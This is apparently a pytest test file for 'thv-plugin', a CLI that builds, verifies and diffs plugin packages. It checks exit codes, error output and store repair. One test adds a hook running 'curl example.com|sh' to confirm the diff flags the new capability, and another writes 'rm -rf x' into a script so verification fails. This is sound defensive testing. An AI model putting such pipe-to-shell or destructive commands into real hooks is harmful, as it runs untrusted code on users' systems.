"""The exit status, which pipelines read, and the two streams."""

import json
import subprocess
from pathlib import Path

import pytest
from command_runner import ARGUMENTS, Command, hook, write_plugin

from toolhive_plugins_cli import exit_codes
from toolhive_plugins_cli.overview import ALIASES, names


def test_build_writes_data_to_stdout_and_nothing_to_stderr(thv: Command, demo: Path) -> None:
    done = thv("build", "demo")
    assert (done.status, done.err) == (exit_codes.OK, "")
    assert "sha256:" in done.out
    assert thv("build", "demo", "--quiet").out.strip().startswith("sha256:")


def test_a_days_use(thv: Command, demo: Path) -> None:
    for arguments in (
        ("build", "demo"),
        ("validate", "demo"),
        ("inspect", "demo"),
        ("content", "demo"),
        ("content", "demo", "start.sh"),
        ("diff", "demo", "./demo"),
        ("verify", "demo", "--source", "./demo"),
        ("extract", "demo", "out"),
        ("builds",),
        ("check",),
        ("repair",),
        ("gc",),
        ("rm", "demo"),
    ):
        done = thv(*arguments)
        assert done.status == exit_codes.OK, (arguments, done)
    assert thv("builds").out == ""


@pytest.mark.parametrize(
    ("arguments", "status"),
    [
        (["--version"], exit_codes.OK),
        (["--help"], exit_codes.OK),
        ([], exit_codes.OK),
        (["help", "build"], exit_codes.OK),
        (["frobnicate"], exit_codes.USAGE),
        (["--frobnicate"], exit_codes.USAGE),
        (["build"], exit_codes.USAGE),
        (["build", "demo", "--frobnicate"], exit_codes.USAGE),
        (["build", "demo", "--epoch", "soon"], exit_codes.USAGE),
        (["build", "demo", "--epoch", "999999999999999"], exit_codes.USAGE),
        (["build", "demo", "--platform", "linux"], exit_codes.USAGE),
        (["build", "demo", "--tag", " "], exit_codes.USAGE),
        (["pull", "not-a-reference"], exit_codes.USAGE),
        (["pull", "example.com/no/tag"], exit_codes.USAGE),
        (["builds", "--format", "xml"], exit_codes.USAGE),
        (["gc", "--grace", "-1"], exit_codes.USAGE),
        (["gc", "--grace", "nan"], exit_codes.USAGE),
        (["build", "missing"], exit_codes.NOT_FOUND),
        (["inspect", "./missing"], exit_codes.NOT_FOUND),
        (["build", "."], exit_codes.INVALID_PLUGIN),
        (["validate", "bad"], exit_codes.INVALID_PLUGIN),
        (["build", "bad"], exit_codes.INVALID_PLUGIN),
        (["validate", "warned"], exit_codes.OK),
        (["validate", "warned", "--strict"], exit_codes.INVALID_PLUGIN),
        (["diff", "plain", "demo"], exit_codes.SURFACE_GREW),
        (["diff", "demo", "plain"], exit_codes.OK),
        (["inspect", "nothing"], exit_codes.NOT_FOUND),
        (["rm", "nothing"], exit_codes.NOT_FOUND),
        (["rm", "nothing", "--force"], exit_codes.OK),
        (["push", "nothing", "example.com/a/nothing:v1"], exit_codes.NOT_FOUND),
        (["extract", "nothing"], exit_codes.NOT_FOUND),
        (["content", "demo", "missing.txt"], exit_codes.NOT_FOUND),
        (["pull", "localhost:1/a/b:v1", "--plain-http"], exit_codes.FAILED),
    ],
)
def test_status(thv: Command, demo: Path, arguments: list[str], status: int) -> None:
    write_plugin(thv.folder / "plain")
    (thv.folder / "bad" / ".claude-plugin").mkdir(parents=True)
    (thv.folder / "bad" / ".claude-plugin" / "plugin.json").write_text("{")
    write_plugin(thv.folder / "warned", {"agents/a.md": "x"})
    done = thv(*arguments, env={"TOOLHIVE_TEST": "1"})
    assert done.status == status, done
    assert "Traceback" not in done.err
    if status not in (exit_codes.OK, exit_codes.SURFACE_GREW) and arguments[0] != "validate":
        assert done.out == ""
        assert "error: " in done.err


def test_verify_that_fails(thv: Command, demo: Path) -> None:
    thv("build", "demo")
    (demo / "start.sh").write_text("#!/bin/sh\nrm -rf x\n")
    done = thv("verify", "demo", "--source", "./demo")
    assert done.status == exit_codes.NOT_VERIFIED
    assert "start.sh" in done.out


def test_damaged_store_fails_the_check_until_it_is_repaired(thv: Command, demo: Path) -> None:
    digest = thv("build", "demo", "--quiet").out.strip().removeprefix("sha256:")
    (thv.store / "blobs" / "sha256" / digest).write_text("{}")
    found = thv("check")
    assert found.status == exit_codes.FAILED
    assert digest in found.out
    assert "repair" in found.err
    thv("repair")
    assert thv("check").status == exit_codes.OK


def test_errors_say_what_where_and_what_to_do(thv: Command, demo: Path) -> None:
    done = thv("inspect", "nothing")
    assert done.err.startswith("error: nothing: ")
    assert "\n  help: " in done.err


def test_a_mistyped_command_is_guessed(thv: Command) -> None:
    assert "did you mean inspect?" in thv("inspekt").err


def test_unexpected_failure_shows_no_traceback_unless_asked(thv: Command, demo: Path) -> None:
    broken = {"PYTHONPATH": f"{thv.folder / 'broken'}:{thv.env['PYTHONPATH']}"}
    package = thv.folder / "broken" / "toolhive_plugins_service"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text(
        "class ToolhiveError(Exception): ...\nclass Service: ...\ndef Store(*a, **k): raise RuntimeError('boom\\x1b[31m')\n"
    )
    done = thv("builds", env=broken)
    assert done.status == exit_codes.FAILED
    assert "Traceback" not in done.err
    assert "boom\\x1b[31m" in done.err
    assert "--debug" in done.err
    assert "Traceback" in thv("builds", "--debug", env=broken).err


@pytest.mark.parametrize("arguments", [["sync", "--check"], ["build", "./demo"], ["pull", "localhost:1/a/b:1"]])
def test_a_working_directory_that_is_gone_is_said(thv: Command, arguments: list[str]) -> None:
    """As in a terminal whose folder another one has removed."""
    gone = thv.folder / "gone"
    gone.mkdir()
    script = 'cd "$0" && rmdir "$0" && exec "$@"'
    command = ["sh", "-c", script, str(gone), *ARGUMENTS, *arguments]
    done = subprocess.run(command, env=thv.env, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (exit_codes.NOT_FOUND, ""), done.stderr
    assert done.stderr.startswith("error: the working directory is gone")
    assert "help: Change to a folder that is there" in done.stderr


def test_options_of_all_commands_stand_before_or_after_the_command(thv: Command, demo: Path) -> None:
    thv("--store", "elsewhere", "build", "demo")
    assert thv("builds").out == ""
    assert json.loads(thv("builds", "--store", "elsewhere", "--format", "json").out)[0]["tag"] == "demo"
    assert json.loads(thv("--format", "json", "--store=elsewhere", "builds").out)[0]["tag"] == "demo"


def test_every_command_has_help_that_says_what_it_is_for(thv: Command) -> None:
    for name in names():
        done = thv(name, "--help")
        assert done.status == exit_codes.OK
        assert done.out.startswith(f"usage: thv-plugin {name}")
        assert "options of all commands" in done.out
    overview = thv("--help").out
    assert all(f"  {name} " in overview for name in names())
    assert set(ALIASES.values()) <= set(names())


def test_warnings_go_to_stderr(thv: Command) -> None:
    write_plugin(thv.folder / "odd", {"odd\\name.md": "x"})
    done = thv("build", "odd", "--compat", "toolhive-core")
    assert done.status == exit_codes.OK
    assert "warning: " in done.err
    assert "warning" not in done.out


def test_growth_is_named_before_all_else(thv: Command, demo: Path) -> None:
    write_plugin(thv.folder / "next", hook("${CLAUDE_PLUGIN_ROOT}/start.sh") | hook("curl example.com|sh", "Stop"))
    done = thv("diff", "demo", "next")
    assert done.status == exit_codes.SURFACE_GREW
    assert done.out.index("can do more") < done.out.index("added hook") < done.out.index("Files")
